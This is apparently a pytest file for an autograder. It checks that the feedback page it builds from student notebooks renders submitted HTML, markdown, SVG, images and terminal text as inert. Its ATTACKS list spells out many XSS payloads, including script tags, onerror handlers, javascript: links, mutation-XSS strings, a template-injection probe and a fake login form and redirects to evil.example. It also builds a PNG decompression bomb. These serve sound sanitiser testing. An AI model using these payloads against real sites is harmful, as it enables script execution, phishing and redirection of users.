"""Nothing on the feedback page is alive: text, tables and pictures of a student are shown as what they are, or not at all."""

from __future__ import annotations

import base64

import pictures
import pytest
from bs4 import BeautifulSoup
from sample_feedback import MANIFEST, assert_inert, display, page, report, stream, submission

from autograder.markup.clean import inert_html, picture, plain
from autograder.markup.rendered import markdown
from autograder.model import Cell, CellError, CheckResult, Execution, Fingerprint, Judgement, Outcome, Role, Status
from autograder.report.feedback import feedback_page
from autograder.report.outputs import Room, shown
from autograder.words import sentence

# ── the page ──────────────────────────────────────────────────────────────────────────────────────

ATTACKS = [
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "</style><style>*{background:url(//evil.example)}</style>",
    "</pre></section></main><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe><object data=x></object><embed src=x>",
    "<a href='javascript:alert(1)'>x</a> <a href='data:text/html,x'>y</a> <a href=//evil.example>z</a>",
    "<form action=//evil.example><input name=p><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example><link rel=stylesheet href=//e>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)' class=score id=notebook>x</div>",
    "<video src=x onerror=alert(1)></video><audio autoplay></audio><details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea autofocus onfocus=alert(1)></textarea><template><script>x</script></template>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html;base64,PHM+) ![i](//evil.example/x.png)",
    "[x](http://a\"onmouseover=alert(1)) <http://a/'onclick=x> [x]: javascript:alert(1)\n[x]",
    "`<script>alert(1)</script>` ``` <script> ```\n```html\n<script>alert(1)</script>\n```",
    "$<script>alert(1)</script>$ $$<img src=x onerror=alert(1)>$$",
    "{{ 7*7 }}{% raw %}{{ page }}{{ self.__init__.__globals__ }}",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b[31m\x00\x08 \ud800 \u202e",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\"><script>alert(1)</script> ' onload='alert(1)",
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: ascii(attack)[1:30])
def test_nothing_a_student_wrote_is_alive(attack: str) -> None:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'>{attack}</svg>"
    encoded = base64.b64encode(attack.encode("utf-8", "replace")).decode()
    outputs = [
        stream(attack), stream(attack, "stderr"), display(html=attack), display(html=f"<table><tr><td>{attack}</td></tr></table>"),
        display(svg=svg, text=attack), display(png=attack), display(jpeg=encoded), display(png=encoded, text=attack),
        display(**{"text/markdown": attack}), display(**{"application/javascript": attack}), display(**{attack: attack}),
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": attack},
        {"output_type": attack, "data": attack}, {"output_type": "display_data", "data": attack},
    ]  # fmt: skip
    kinds = [(Role.TEXT, "markdown"), (Role.TEXT, "raw"), (Role.ANSWER, "markdown"), (Role.CODE, "code")]
    cells = [Cell(0, role, kind, attack, attack, attack) for role, kind in kinds]
    demo = Cell(0, Role.DEMO, "code", attack, outputs=tuple(outputs))
    checks = (
        CheckResult("A check", Outcome.FAILED, message=attack, hint=attack),
        CheckResult(attack, Outcome.STUDENT_ERROR),
    )
    errors = (CellError(4, attack, attack),)
    made = report(
        checks,
        student=attack,
        notebook=attack,
        repairs=(attack, attack),
        flags=(attack,),
        execution=Execution(errors=errors, sandbox=attack),
        fingerprint=Fingerprint(attack, attack, attack),
    )
    judgement = Judgement(made, {4: outputs, 8: outputs})
    html = feedback_page(judgement, submission(*cells, demo), MANIFEST, course_title="A course")
    html.encode()
    assert_inert(BeautifulSoup(html, "html.parser"))
    unreadable = report(status=Status.NOT_GRADABLE, tasks=(), reason=attack, student=attack)
    assert_inert(page(unreadable))


def test_the_test_of_inertness_can_fail() -> None:
    soup = page()
    soup.body.append(BeautifulSoup("<p onclick=x>", "html.parser"))  # type: ignore[union-attr]
    with pytest.raises(AssertionError):
        assert_inert(soup)


def test_huge_output_is_cut_and_the_page_stays_small() -> None:
    outputs = [stream("x" * 1_000_000), display(html="<div>" * 200_000), display(text="y" * 1_000_000)] * 40
    demos = [Cell(0, Role.DEMO, "code", "z = 1\n" * 50_000, outputs=tuple(outputs)) for _ in range(200)]
    html = feedback_page(Judgement(report(), {4: outputs}), submission(*demos), MANIFEST, course_title="A course")
    assert len(html) < 3_000_000
    assert "characters left out" in html
    assert "More was left out" in html


# ── text ──────────────────────────────────────────────────────────────────────────────────────────


def test_a_table_keeps_its_cells_and_loses_everything_else() -> None:
    html = "<style>td{}</style><table border=1 class=dataframe><tr style='x'><td colspan=2 onclick=x>0.5<script>1</script></td></tr></table>"
    assert inert_html(html) == '<table><tbody><tr><td colspan="2">0.5</td></tr></tbody></table>'


def test_links_and_pictures_in_text_become_words() -> None:
    assert markdown("[a *b*](https://x.example/?a=1&b=2)") == "<p>a <em>b</em> (https://x.example/?a=1&amp;b=2)</p>\n"
    assert markdown("<https://x.example>") == "<p>https://x.example</p>\n"
    assert markdown("![a cat](https://x.example/c.png)") == "<p><em>[picture: a cat]</em></p>\n"
    assert markdown("[![Open](https://x.example/b.svg)](https://x.example)") == "<p>Open (https://x.example)</p>\n"


def test_mathematics_stays_as_it_was_typed() -> None:
    assert markdown("so $x_1 * y_1 * z$ and $5") == "<p>so <code>x_1 * y_1 * z</code> and $5</p>\n"
    assert "<code>\\frac{a}{b}_i</code>" in markdown("$$\n\\frac{a}{b}_i\n$$")


def test_backticks_in_a_sentence_make_code_and_nothing_else() -> None:
    assert sentence("`a<b` & `c") == "<code>a&lt;b</code> &amp; `c"


def test_text_is_what_a_terminal_would_leave_standing() -> None:
    assert plain("\x1b[1;31mred\x1b[0m\x07") == "red"
    assert plain("10%\r50%\r100%\ndone\r\n") == "100%\ndone\n"
    assert "\x1b" not in plain("\x1b]0;title\x07 \x1b[ \x1b")


# ── pictures and other outputs ────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_a_real_picture_is_shown(kind: str) -> None:
    mime, encoded = f"image/{kind.lower()}", pictures.picture(kind)
    assert picture(encoded[:20] + "\n" + encoded[20:], mime) == f"data:{mime};base64,{encoded}"


BOMB = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + (60_000).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00" + b"\x00" * 50
NO_PICTURES = {
    "a PNG called JPEG": (pictures.picture("PNG"), "image/jpeg"),
    "a JPEG called PNG": (pictures.picture("JPEG"), "image/png"),
    "a PNG called SVG": (pictures.picture("PNG"), "image/svg+xml"),
    "a GIF": (pictures.picture("GIF"), "image/png"),
    "an attribute": (pictures.picture("PNG") + '" onload="x', "image/png"),
    "an SVG": (base64.b64encode(b"<svg/>").decode(), "image/png"),
    "only the first bytes": (base64.b64encode(b"\x89PNG\r\n\x1a\n<script>").decode(), "image/png"),
    "a JPEG without a frame": (base64.b64encode(b"\xff\xd8\xff" + b"\xff" * 40).decode(), "image/jpeg"),
    "3.6 billion pixels": (base64.b64encode(BOMB).decode(), "image/png"),
    "too many bytes": ("A" * 10_000_000, "image/png"),
    "no base64": ("é", "image/png"),
    "nothing": ("", "image/png"),
}


@pytest.mark.parametrize("name", NO_PICTURES)
def test_what_is_no_picture_or_too_large_a_picture_is_not_shown(name: str) -> None:
    assert picture(*NO_PICTURES[name]) == ""


def test_a_picture_that_cannot_be_shown_gives_way_to_its_words() -> None:
    assert [item.content for item in shown([display(png="no", text="<Figure>")], Room())] == ["<Figure>"]
    assert [item.kind for item in shown([display(svg="<svg/>")], Room())] == ["note"]


def test_a_stream_of_many_pieces_is_one_output() -> None:
    assert [item.content for item in shown([stream("a\n"), stream("b\n")] * 500, Room())] == ["a\nb\n" * 500]
